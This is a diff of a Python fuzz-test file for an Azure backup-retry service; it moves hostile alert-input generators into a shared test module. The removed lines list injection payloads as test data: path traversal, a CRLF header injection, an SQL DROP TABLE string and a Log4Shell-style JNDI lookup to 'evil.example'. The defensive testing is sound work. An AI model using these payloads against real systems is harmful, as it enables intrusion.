@@ -1,13 +1,8 @@
 """Bad input of every kind at both entry points: documented answers only, no call outside the scope, no trigger."""
 
-import copy
 import json
-import logging
-from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, field
 from datetime import datetime
-from itertools import chain
-from pathlib import Path
 from types import SimpleNamespace
 from typing import Any, cast
 from unittest.mock import patch
@@ -18,7 +13,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from backup_retry import wiring
-from backup_retry.domain.alert_dimensions import BUILT_IN, Dimensions
+from backup_retry.domain.alert_dimensions import Dimensions
 from backup_retry.domain.arm_ids import Vault
 from backup_retry.domain.errors import AzureUnavailable
 from backup_retry.domain.failure_batches import FAILURE_FOUND
@@ -36,11 +31,20 @@ from reactor.deferred_signals import written
 from reactor.events import ACTION_FAILED
 from reactor.resolve import Resolver
 from reactor.signal_handler import SignalHandler
-from tests.builders import OTHER_SUBSCRIPTION, SUBSCRIPTION, item, job, minutes
+from tests.builders import SUBSCRIPTION, item, job, minutes
 from tests.clock import Clock
+from tests.hostile_signals import (
+    COMPLETED,
+    MACHINE,
+    RUNNING,
+    actions,
+    alert,
+    anything,
+    hostile_alerts,
+    mutated,
+    own_events,
+)
 
-_PAYLOADS = Path(__file__).parents[1] / "payloads"
-_SHARED = Path(__file__).parents[3] / "shared" / "azure" / "signals"
 DOCUMENTED = {200, 202, 400, 413}
 FUZZ = settings(
     max_examples=150,
@@ -48,158 +52,6 @@ FUZZ = settings(
     derandomize=True,
     suppress_health_check=[HealthCheck.function_scoped_fixture],
 )
-COMPLETED, RUNNING = "job-completed", "job-running"
-MACHINE = item().machine_id
-
-
-def _real_payloads() -> list[Any]:
-    files = [*sorted(_PAYLOADS.glob("*.json")), *(sorted(_SHARED.glob("*.json")) if _SHARED.exists() else [])]
-    return [json.loads(file.read_text(encoding="utf-8")) for file in files]
-
-
-REAL = _real_payloads()
-
-# ---- what is sent --------------------------------------------------------------------------------------------------
-
-_VAULTS = "providers/Microsoft.RecoveryServices/vaults"
-HOSTILE_IDS = [
-    "",
-    "/",
-    "//" * 500,
-    "x" * 100_000,
-    f"/subscriptions/{OTHER_SUBSCRIPTION}/resourceGroups/rg-backup/{_VAULTS}/vault-1",
-    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/../{_VAULTS}/vault-1",
-    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg?a=b/{_VAULTS}/vault-1",
-    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg#x/{_VAULTS}/vault-1",
-    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg/{_VAULTS}/vault-1/../../vault-2",
-    f"/SUBSCRIPTIONS/{SUBSCRIPTION.upper()}/RESOURCEGROUPS/RG-BACKUP/{_VAULTS.upper()}/VAULT-1",
-    f"{item().id}/../../../../vaults/vault-2",
-    f"{item().id}\r\nHost: evil.example",
-    f"{item().id}\x00",
-    "https://evil.example/subscriptions",
-    "'; DROP TABLE incidents; --",
-    "${jndi:ldap://evil.example/a}",
-    "\ud800",
-    "\u202e\u05de\u05e1",
-    item().id,
-    item().vault.id,
-    f"{item().vault.id}/backupJobs/{COMPLETED}",
-    COMPLETED,
-    RUNNING,
-    MACHINE,
-    MACHINE + "' or true",
-    f"{item().id}/restores/{COMPLETED}",
-    item().vault.id.replace("RecoveryServices/vaults", "DataProtection/backupVaults"),
-]
-scalars = (
-    st.none()
-    | st.booleans()
-    | st.integers()
-    | st.floats()
-    | st.text(max_size=40)
-    | st.sampled_from(HOSTILE_IDS)
-)
-anything = st.recursive(
-    scalars,
-    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
-    max_leaves=12,
-)
-
-
-def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
-    yield path
-    entries = (
-        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
-    )
-    for key, inner in entries:
-        yield from _places(inner, (*path, key))
-
-
-def _replaced(payload: Any, path: Sequence[Any], value: Any) -> Any:
-    if not path:
-        return value
-    changed = copy.deepcopy(payload)
-    holder = changed
-    for key in path[:-1]:
-        holder = holder[key]
-    holder[path[-1]] = value
-    return changed
-
-
-@st.composite
-def mutated(draw: st.DrawFn) -> Any:
-    """A real payload in which up to three things are something else."""
-    payload = draw(st.sampled_from(REAL))
-    for _ in range(draw(st.integers(1, 3))):
-        path = draw(st.sampled_from(list(_places(payload))))
-        payload = _replaced(payload, path, draw(anything))
-    return payload
-
-
-def alert(vault_id: Any, item_id: Any, job_id: Any) -> dict[str, Any]:
-    """The built-in alert with ids of the caller's choice."""
-    essentials = {
-        "monitorCondition": "Fired",
-        "monitoringService": "Azure Backup",
-        "alertRule": "Backup Failure",
-    }
-    context = {"protectedItemId": item_id, "extendedInfo": {"jobId": job_id}}
-    data = {"essentials": {**essentials, "alertTargetIDs": [vault_id]}, "alertContext": context}
-    return {"schemaId": "azureMonitorCommonAlertSchema", "data": data}
-
-
-ids = st.sampled_from(HOSTILE_IDS) | st.text(max_size=30) | scalars
-dimensions = st.lists(
-    st.fixed_dictionaries(
-        {
-            "name": st.sampled_from([*chain(*BUILT_IN.values()), "backupInstanceUrl", "healthStatus"]),
-            "value": ids,
-        }
-    ),
-    max_size=4,
-)
-
-
-def rule_alert(service: str, target: Any, dimensions: Any) -> dict[str, Any]:
-    """A log search or metric alert with dimensions of the caller's choice."""
-    essentials = {"monitorCondition": "Fired", "monitoringService": service, "alertTargetIDs": [target]}
-    criteria = {"metricName": "BackupHealthEvent", "dimensions": dimensions}
-    context = {"condition": {"allOf": [criteria]}}
-    return {
-        "schemaId": "azureMonitorCommonAlertSchema",
-        "data": {"essentials": essentials, "alertContext": context},
-    }
-
-
-def action(operation: str, target: Any) -> dict[str, Any]:
-    """What the activity log and the resource events say of a call."""
-    scope = {"scope": target, "action": operation}
-    return {"operationName": operation, "status": "Failed", "authorization": scope, "resourceUri": target}
-
-
-def action_alert(call: dict[str, Any], target: Any) -> dict[str, Any]:
-    """An activity log alert of a call."""
-    alerted = rule_alert("Activity Log - Administrative", target, [])
-    alerted["data"]["alertContext"] = call
-    return alerted
-
-
-actions = st.builds(
-    action,
-    st.sampled_from(
-        [
-            "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/backup/action",
-            "Microsoft.DataProtection/backupVaults/backupInstances/backup/action",
-        ]
-    ),
-    ids,
-)
-hostile_alerts = (
-    st.builds(alert, ids, ids, ids)
-    | st.builds(rule_alert, st.sampled_from(["Log Alerts V2", "Platform"]), ids, dimensions)
-    | st.builds(action_alert, actions, ids)
-)
-own_events = st.fixed_dictionaries({}, optional={"jobId": ids, "itemId": ids, "vaultId": ids})
 
 # ---- whom it is sent to --------------------------------------------------------------------------------------------
 
@@ -295,15 +147,6 @@ class Target:
         return (
             not self.vaults.triggered and not self.ledger._heads and set(self.vaults.asked) <= {SUBSCRIPTION}
         )
-
-
-@pytest.fixture(autouse=True)
-def _silence() -> Iterator[None]:
-    logger = logging.getLogger("backup_retry")
-    before = logger.level
-    logger.setLevel(logging.CRITICAL + 1)
-    yield
-    logger.setLevel(before)
 
 
 def body(payload: Any) -> bytes:
